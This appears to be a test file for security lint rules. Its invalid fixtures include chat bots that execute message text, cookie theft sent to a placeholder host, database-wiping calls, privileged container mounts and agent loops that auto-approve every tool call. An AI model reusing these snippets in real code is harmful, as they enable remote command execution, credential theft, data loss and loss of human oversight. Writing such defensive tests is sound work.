import { ruleTester } from '../tester.ts';

const strict = { strict: true };
const ts = 'file.ts';

// Who writes to a bot, a channel, a form or a bucket is a stranger.
await ruleTester('no-command-injection', {
  valid: [
    { code: 'import { Client } from "discord.js"; import { exec } from "node:child_process"; new Client({ intents: [] }).on("messageCreate", (m) => { if (m.content === "!restart") exec("systemctl restart bot", () => m.reply("ok")); });' },
    { code: 'import mqtt from "mqtt"; import { execFile } from "node:child_process"; mqtt.connect("mqtts://broker.example.com").on("message", (topic, payload) => execFile("notify-send", [payload.toString()]));' },
    { code: '"use server";\nimport { execFileSync } from "node:child_process"; export async function build(id) { return execFileSync("node", ["build.js", id]).toString(); }' },
    { code: '"use server";\nimport { execSync } from "node:child_process"; function inner(id) { return execSync("node build.js " + id); } export const build = async () => inner(1);' },
    { code: 'const text = "use server"; import { execSync } from "node:child_process"; export async function build(id) { return execSync("node build.js " + id); }' },
  ],
  invalid: [
    { code: 'import { Client } from "discord.js"; import { exec } from "node:child_process"; new Client({ intents: [] }).on("messageCreate", (m) => { if (m.content.startsWith("!sh ")) exec(m.content.slice(4), (_e, out) => m.reply(out)); });', errors: [{ messageId: 'outside' }] },
    { code: 'import { Telegraf } from "telegraf"; import { exec } from "node:child_process"; new Telegraf("x").on("text", (ctx) => exec(ctx.message.text, (_e, out) => ctx.reply(out)));', errors: [{ messageId: 'outside' }] },
    { code: 'import mqtt from "mqtt"; import { exec } from "node:child_process"; const client = mqtt.connect("mqtt://broker.example.com"); client.on("message", (topic, payload) => exec(payload.toString()));', errors: [{ messageId: 'outside' }] },
    { code: 'import { createClient } from "redis"; import { exec } from "node:child_process"; const client = createClient(); client.subscribe("jobs", (message) => exec(message));', errors: [{ messageId: 'outside' }] },
    { code: '"use server";\nimport { execSync } from "node:child_process"; export async function clone(formData) { const url = formData.get("url"); execSync(`git clone ${url} /tmp/r`); }', errors: [{ messageId: 'outside' }] },
    { code: 'import { execSync } from "node:child_process"; async function clone(formData) { "use server"; execSync("git clone " + formData.get("url")); } export { clone };', errors: [{ messageId: 'outside' }] },
    { code: 'import { execSync } from "node:child_process"; export const handler = async (event) => { const { key } = event.Records[0].s3.object; execSync(`aws s3 cp s3://b/${key} /tmp/x`); };', errors: [{ messageId: 'outside' }] },
  ],
});

await ruleTester('no-env-dump', {
  valid: [
    { code: 'import { config } from "dotenv"; const { parsed, error } = config(); console.log("variables:", Object.keys(parsed ?? {}).sort());' },
    { code: 'import { config } from "dotenv"; const parsed = config().parsed; console.log(Object.keys(parsed || {}).join());' },
    { code: 'console.log(Object.keys(process.env ?? {}).length, Object.keys(process.env || {}));' },
    { code: 'import Fastify from "fastify"; const app = Fastify({ logger: true }); app.log.info({ port: process.env.PORT }, "starting");' },
  ],
  invalid: [
    { code: 'import { config } from "dotenv"; const { parsed } = config(); console.log(Object.keys(parsed ?? {}), parsed);', errors: [{ messageId: 'dump' }] },
    { code: 'import { config } from "dotenv"; const { parsed } = config(); console.log(Object.values(parsed ?? {}));', errors: [{ messageId: 'dump' }] },
    { code: 'import Fastify from "fastify"; const app = Fastify({ logger: true }); app.log.info({ env: process.env }, "starting");', errors: [{ messageId: 'dump' }] },
  ],
});

const secretsManager = 'import { SecretsManagerClient, GetSecretValueCommand } from "@aws-sdk/client-secrets-manager"; const client = new SecretsManagerClient({}); const { SecretString } = await client.send(new GetSecretValueCommand({ SecretId: "db" }));\n';
await ruleTester('no-credential-logging', {
  valid: [
    { code: `${secretsManager}const { username, host } = JSON.parse(SecretString); console.log("connecting to", host, username);` },
    { code: `${secretsManager}console.log("read", SecretString.length); if (!SecretString) console.error("empty");` },
    { code: 'import { SecretClient } from "@azure/keyvault-secrets"; const secret = await new SecretClient("x").getSecret("db"); console.log(secret.name, secret.properties.version);' },
    { code: 'import express from "express"; express().use((req, res, next) => { const header = req.header("authorization"); if (!header) console.log("no header"); console.log("scheme", header.split(" ")[0]); next(); });' },
    { code: 'import express from "express"; express().use((req, res, next) => { console.log(Boolean(req.header("authorization")), req.header("x-request-id")); next(); });' },
    { code: 'import { Server } from "socket.io"; new Server().use((socket, next) => { console.log(socket.handshake.address); next(); });' },
    { code: 'import { header } from "./layout.js"; console.log(header("authorization", "Required"));' },
  ],
  invalid: [
    { code: `${secretsManager}console.log(SecretString);`, errors: [{ messageId: 'log' }] },
    { code: `${secretsManager}console.log(JSON.parse(SecretString).password);`, errors: [{ messageId: 'log' }] },
    { code: 'import { SecretClient } from "@azure/keyvault-secrets"; const secret = await new SecretClient("x").getSecret("db"); console.log(secret.value);', errors: [{ messageId: 'log' }] },
    { code: 'export default defineEventHandler((event) => { console.log("header", getHeader(event, "authorization")); });', errors: [{ messageId: 'log' }] },
    { code: 'import { Hono } from "hono"; export default new Hono().use(async (c, next) => { console.log(c.req.header("Authorization")); await next(); });', errors: [{ messageId: 'log' }] },
    { code: 'import { Server } from "socket.io"; new Server().use((socket, next) => { console.log("handshake", socket.handshake.auth.token); next(); });', errors: [{ messageId: 'log' }] },
  ],
});

await ruleTester('no-data-exfiltration', {
  valid: [
    { code: `${secretsManager}await fetch("https://api.vendor.example/v1/x", { headers: { Authorization: "Bearer " + JSON.parse(SecretString).apiKey } });` },
    { code: `${secretsManager}await fetch("https://auth.vendor.example/oauth/token", { method: "POST", body: new URLSearchParams({ client_secret: JSON.parse(SecretString).clientSecret }) });` },
  ],
  invalid: [
    { code: 'chrome.cookies.getAll({}, (cookies) => { const body = JSON.stringify(cookies.map((c) => ({ d: c.domain, v: c.value }))); navigator.sendBeacon("https://stats.example.net/c", body); });', errors: [{ messageId: 'sent' }] },
    { code: 'const cookies = await chrome.cookies.getAll({}); const all = cookies.map((c) => `${c.name}=${c.value}`); await fetch("https://stats.example.net/c", { method: "POST", body: JSON.stringify(all) });', errors: [{ messageId: 'sent' }] },
  ],
});

// What only those get who ask for it.
await ruleTester('no-tls-bypass', {
  valid: [
    { code: 'import https from "node:https"; export const agent = process.env.INSECURE === "1" ? new https.Agent({ rejectUnauthorized: false }) : undefined;' },
    { code: 'import { program } from "commander"; program.option("-k, --insecure").action((options) => { if (options.insecure) process.env.NODE_TLS_REJECT_UNAUTHORIZED = "0"; });' },
    { code: 'import https from "node:https"; export function agent(options) { const made = {}; if (options.allowSelfSigned) { made.rejectUnauthorized = false; } return new https.Agent(made); }' },
  ],
  invalid: [
    { code: 'import https from "node:https"; export const agent = process.env.INSECURE === "1" ? new https.Agent({ rejectUnauthorized: false }) : undefined;', options: strict, errors: [{ messageId: 'option' }] },
    { code: 'import https from "node:https"; export const agent = process.env.NODE_ENV !== "production" ? new https.Agent({ rejectUnauthorized: false }) : undefined;', errors: [{ messageId: 'option' }] },
    { code: 'import https from "node:https"; const insecure = true; export const agent = insecure ? new https.Agent({ rejectUnauthorized: false }) : undefined;', errors: [{ messageId: 'option' }] },
    { code: 'import https from "node:https"; export const agent = (insecure) => insecure ? undefined : new https.Agent({ rejectUnauthorized: false });', errors: [{ messageId: 'option' }] },
    { code: 'if (!process.env.INSECURE) process.env.NODE_TLS_REJECT_UNAUTHORIZED = "0";', errors: [{ messageId: 'variable' }] },
    { code: 'import https from "node:https"; export const agent = (options) => (options.insecure ?? true) ? new https.Agent({ rejectUnauthorized: false }) : undefined;', errors: [{ messageId: 'option' }] },
  ],
});

// Stores that are emptied are a capability.
await ruleTester('no-destructive-command', {
  valid: [
    ...['import mongoose from "mongoose"; await mongoose.connection.dropDatabase();', 'import { Sequelize } from "sequelize"; await new Sequelize(url).sync({ force: true });', 'db.query("DROP DATABASE app");'].map((code) => ({ code })),
    { code: 'import { Sequelize } from "sequelize"; await new Sequelize(url).sync({ alter: true }); await new Sequelize(url).sync();', options: strict },
    { code: 'import { MongoClient } from "mongodb"; const users = new MongoClient(url).db("app").collection("users"); await users.deleteMany({ expired: true }); await users.deleteMany({ ...filter }); await users.deleteMany(filter);', options: strict },
    { code: 'import Redis from "ioredis"; await new Redis().del("a");', options: strict },
    { code: 'const help = "Never drop database tables by hand"; const sql = "SELECT 1 -- drop database x";', options: strict },
    { code: 'import { DataSource } from "typeorm"; export const source = new DataSource({ type: "postgres", dropSchema: false });', options: strict },
  ],
  invalid: [
    ...[
      'import mongoose from "mongoose"; await mongoose.connection.dropDatabase();',
      'import { MongoClient } from "mongodb"; await new MongoClient(url).db("app").collection("users").deleteMany({});',
      'import { Sequelize } from "sequelize"; await new Sequelize(url).sync({ force: true });',
      'import { DataSource } from "typeorm"; export const source = new DataSource({ type: "postgres", dropSchema: true });',
      'import Redis from "ioredis"; await new Redis(url).flushall();',
      'import { RDSClient, DeleteDBInstanceCommand } from "@aws-sdk/client-rds"; await new RDSClient({}).send(new DeleteDBInstanceCommand({ DBInstanceIdentifier: "main", SkipFinalSnapshot: true }));',
      'db.query("DROP DATABASE app");',
      'await prisma.$executeRawUnsafe(`drop schema ${name} cascade`);',
      'await db.execute(sql`TRUNCATE TABLE users`);',
    ].map((code) => ({ code, options: strict, errors: [{ messageId: 'data' }] })),
  ],
});

await ruleTester('no-privilege-escalation', {
  valid: [
    { code: 'import { spawn } from "node:child_process"; spawn("a", [], { uid: process.getuid(), gid: 20 });' },
    { code: 'import Docker from "dockerode"; new Docker().createContainer({ Image: "a", HostConfig: { Binds: [`${process.cwd()}:/app`], NetworkMode: "bridge", Privileged: false } });', options: strict },
    { code: 'import sudo from "sudo-prompt"; sudo.exec("tool install", { name: "App" });' },
    { code: 'import * as iam from "aws-cdk-lib/aws-iam"; new iam.PolicyStatement({ actions: ["s3:GetObject"], resources: ["*"] }); new iam.PolicyStatement({ effect: iam.Effect.DENY, actions: ["*"], resources: ["*"] });', options: strict },
  ],
  invalid: [
    { code: 'import { spawn } from "node:child_process"; spawn("id", [], { uid: 0 });', errors: [{ messageId: 'identity' }] },
    { code: 'import Docker from "dockerode"; await new Docker().createContainer({ Image: "a", HostConfig: { Privileged: true } });', errors: [{ messageId: 'container' }] },
    { code: 'import Docker from "dockerode"; await new Docker().run("a", ["ls"], process.stdout, { HostConfig: { Binds: ["/:/host"] } });', errors: [{ messageId: 'container' }] },
    { code: 'import Docker from "dockerode"; await new Docker().createContainer({ Image: "a", HostConfig: { Binds: ["/var/run/docker.sock:/var/run/docker.sock"] } });', options: strict, errors: [{ messageId: 'container' }] },
    { code: 'import sudo from "sudo-prompt"; sudo.exec("tool install", { name: "App" });', options: strict, errors: [{ messageId: 'elevate' }] },
    { code: 'import { IAMClient, AttachUserPolicyCommand } from "@aws-sdk/client-iam"; await new IAMClient({}).send(new AttachUserPolicyCommand({ UserName: "ci", PolicyArn: "arn:aws:iam::aws:policy/AdministratorAccess" }));', options: strict, errors: [{ messageId: 'grant' }] },
    { code: 'import * as iam from "aws-cdk-lib/aws-iam"; new iam.PolicyStatement({ actions: ["*"], resources: ["*"] });', options: strict, errors: [{ messageId: 'grant' }] },
  ],
});

await ruleTester('no-package-publish', {
  valid: [
    { code: 'import { createVSIX } from "@vscode/vsce"; await createVSIX({ cwd: "." });' },
    { code: 'import { publish } from "./posts.js"; await publish({ id: 1 });' },
    { code: 'import { releaseVersion } from "nx/release"; await releaseVersion({ dryRun: true });' },
  ],
  invalid: [
    { code: 'import { publish } from "libnpmpublish"; await publish({ name: "a", version: "1.0.0" }, tarball);', errors: [{ messageId: 'publish' }] },
    { code: 'import { publishVSIX } from "@vscode/vsce"; await publishVSIX("a.vsix", { pat: process.env.VSCE_PAT });', errors: [{ messageId: 'publish' }] },
    { code: 'import semanticRelease from "semantic-release"; await semanticRelease({ branches: ["main"] });', errors: [{ messageId: 'publish' }] },
  ],
});

await ruleTester('no-child-process', {
  valid: [{ code: 'import { open } from "node:fs/promises"; await open("a.txt");' }, { code: 'import cluster from "node:cluster"; console.log(cluster.isPrimary);' }],
  invalid: [
    { code: 'import concurrently from "concurrently"; concurrently(["npm:watch"]);', errors: [{ messageId: 'module' }] },
    { code: 'import open from "open"; await open("https://example.com");', errors: [{ messageId: 'module' }] },
    { code: 'import cluster from "node:cluster"; if (cluster.isPrimary) cluster.fork();', errors: [{ messageId: 'call' }] },
  ],
});

await ruleTester('no-dynamic-module', {
  valid: [{ code: 'import { createJiti } from "jiti"; createJiti(import.meta.url)("./config.ts");' }, { code: 'import importFrom from "import-from"; export const load = (folder) => importFrom(folder, "eslint");' }],
  invalid: [
    { code: 'import { createJiti } from "jiti"; export const load = (path) => createJiti(import.meta.url)(path);', errors: [{ messageId: 'computed' }] },
    { code: 'import { tsImport } from "tsx/esm/api"; export const load = (path) => tsImport(path, import.meta.url);', errors: [{ messageId: 'computed' }] },
    { code: 'import importFrom from "import-from"; export const load = (name) => importFrom(process.cwd(), name);', errors: [{ messageId: 'computed' }] },
  ],
});

await ruleTester('no-external-fetch', {
  valid: [
    { code: 'import { chromium } from "playwright"; const page = await (await chromium.launch()).newPage(); await page.goto("http://books.example.com/");' },
    { code: 'import { HttpLink } from "@apollo/client"; new HttpLink({ uri: "/graphql" }); new HttpLink({ uri: "http://localhost:4000/graphql" });', options: strict },
    { code: 'import { HttpLink } from "@apollo/client"; new HttpLink({ uri: "https://api.example.com/graphql" });', options: { ...strict, allowedHosts: ['api.example.com'] } },
  ],
  invalid: [
    { code: 'import { HttpLink } from "@apollo/client"; new HttpLink({ uri: "https://api.example.com/graphql" });', options: strict, errors: [{ messageId: 'outside' }] },
    { code: 'import { GraphQLClient } from "graphql-request"; new GraphQLClient("https://api.example.com/graphql");', options: strict, errors: [{ messageId: 'outside' }] },
    { code: 'import { httpBatchLink } from "@trpc/client"; httpBatchLink({ url: "https://rpc.example.com/trpc" });', options: strict, errors: [{ messageId: 'outside' }] },
    { code: 'import { chromium } from "playwright"; const page = await (await chromium.launch()).newPage(); await page.goto("https://books.example.com/");', options: strict, errors: [{ messageId: 'outside' }] },
  ],
});

await ruleTester('no-obfuscated-code', {
  valid: [{ code: 'export const text = Buffer.from("a").toString("utf8") + Buffer.from("b").toString();', options: strict }, { code: 'export const text = Buffer.from("a").toString("base64");' }],
  invalid: [
    { code: 'export const text = Buffer.from("a").toString("base64");', options: strict, errors: [{ messageId: 'codec' }] },
    { code: 'import { Base64 } from "js-base64"; export const text = Base64.decode("YQ==");', options: strict, errors: [{ messageId: 'codec' }] },
    { code: 'export const bytes = Uint8Array.fromBase64("YQ==");', options: strict, errors: [{ messageId: 'codec' }] },
  ],
});

await ruleTester('no-restricted-path', {
  valid: [{ code: 'import express from "express"; import path from "node:path"; const app = express(); app.use(express.static("public")); app.use(express.static(path.join(__dirname, "..", "dist"))); app.use("/up", express.static("/var/www/uploads"));' }],
  invalid: [{ code: 'import express from "express"; express().use("/f", express.static("/root/.ssh"));', errors: [{ messageId: 'store' }] }],
});

await ruleTester('no-unsafe-mcp-config', {
  valid: [
    { code: 'import { MCPClient } from "@mastra/mcp"; new MCPClient({ servers: { a: { command: "npx", args: ["-y", "@acme/mcp@1.2.3"] }, b: { url: new URL("https://mcp.example.com/mcp") } } });' },
    { code: 'import { MCPServerStdio, hostedMcpTool } from "@openai/agents"; new MCPServerStdio({ name: "fs", fullCommand: "npx -y @modelcontextprotocol/server-filesystem@2025.8.21 ./samples" }); hostedMcpTool({ serverLabel: "x", serverUrl: "https://mcp.example.com/mcp" });' },
    { code: 'import { MCPClient } from "./client.js"; new MCPClient({ servers: { sh: { command: "npx", args: ["-y", "@modelcontextprotocol/server-filesystem", "/"] } } });' },
  ],
  invalid: [
    { code: 'import { MCPServerStdio } from "@openai/agents"; new MCPServerStdio({ name: "fs", fullCommand: "npx -y @modelcontextprotocol/server-filesystem@2025.8.21 /" });', errors: [{ messageId: 'broadFolder' }] },
    { code: 'import { MCPClient } from "@mastra/mcp"; new MCPClient({ servers: { fs: { command: "npx", args: ["-y", "@modelcontextprotocol/server-filesystem@2025.8.21", "/"] } } });', errors: [{ messageId: 'broadFolder' }] },
    { code: 'import { MultiServerMCPClient } from "@langchain/mcp-adapters"; new MultiServerMCPClient({ a: { transport: "http", url: "http://mcp.example.com/mcp" } });', errors: [{ messageId: 'plainUrl' }] },
    { code: 'import { hostedMcpTool } from "@openai/agents"; hostedMcpTool({ serverLabel: "x", serverUrl: "http://mcp.example.com/mcp" });', errors: [{ messageId: 'plainUrl' }] },
  ],
});

const run = 'import { Agent, run } from "@openai/agents"; const result = await run(new Agent({ name: "a" }), "x", { maxTurns: 4 });\n';
await ruleTester('no-agent-permission-bypass', {
  valid: [
    { code: `${run}for (const call of result.interruptions) { if (await confirm(call.name)) result.state.approve(call); else result.state.reject(call); }` },
    { code: `${run}for (const call of result.interruptions) { const ok = await ask(call); ok ? result.state.approve(call) : result.state.reject(call); }` },
    { code: `${run}export const answer = (call) => { result.state.approve(call); };` },
    { code: 'import { state } from "./orders.js"; for (const order of orders) state.approve(order);' },
    { code: 'import { AgentSideConnection } from "@agentclientprotocol/sdk"; export class Client { async requestPermission(request) { const id = await pick(request.options); return { outcome: { outcome: "selected", optionId: id } }; } }' },
  ],
  invalid: [
    { code: `${run}for (const call of result.interruptions) result.state.approve(call);`, errors: [{ messageId: 'handler' }] },
    { code: `${run}result.interruptions.forEach((call) => { console.log(call.name); result.state.approve(call, { alwaysApprove: true }); });`, errors: [{ messageId: 'handler' }] },
    { code: 'import { ClientSideConnection } from "@agentclientprotocol/sdk"; export class Client { async requestPermission(request) { return { outcome: { outcome: "selected", optionId: request.options[0].optionId } }; } }', errors: [{ messageId: 'handler' }] },
  ],
});

const model = 'import OpenAI from "openai"; const client = new OpenAI();\n';
await ruleTester('no-unbounded-agent', {
  valid: [
    { code: `import readline from "node:readline/promises"; const lines = readline.createInterface({ input: process.stdin }); ${model}while (true) { const input = await lines.question("> "); const answer = await client.responses.create({ model: "x", input }); console.log(answer.output_text); }` },
    { code: `import { input } from "@inquirer/prompts"; ${model}for (;;) { const text = await input({ message: ">" }); await client.responses.create({ model: "x", input: text }); }` },
    { code: `${model}while (true) { const job = await queue.receive(); await client.responses.create({ model: "x", input: job.text }); }` },
  ],
  invalid: [
    { code: `${model}while (true) { await client.responses.create({ model: "x", input: "go on" }); await new Promise((done) => setTimeout(done, 10)); }`, errors: [{ messageId: 'loop' }] },
    { code: `${model}while (true) { const answer = await client.responses.create({ model: "x", input: "go on" }); console.log(await answer.text()); }`, errors: [{ messageId: 'loop' }] },
    { code: `${model}while (true) { const input = await lines.question("> "); await client.responses.create({ model: "x", input }); }`, options: strict, errors: [{ messageId: 'loop' }] },
  ],
});

// A header of a request by way of the headers of a framework.
await ruleTester('no-credential-logging', {
  valid: [{ code: 'import { headers } from "next/headers"; export async function GET() { console.log((await headers()).get("user-agent")); }', filename: ts }],
  invalid: [{ code: 'import { headers } from "next/headers"; export async function GET() { console.log((await headers()).get("authorization")); }', filename: ts, errors: [{ messageId: 'log' }] }],
});
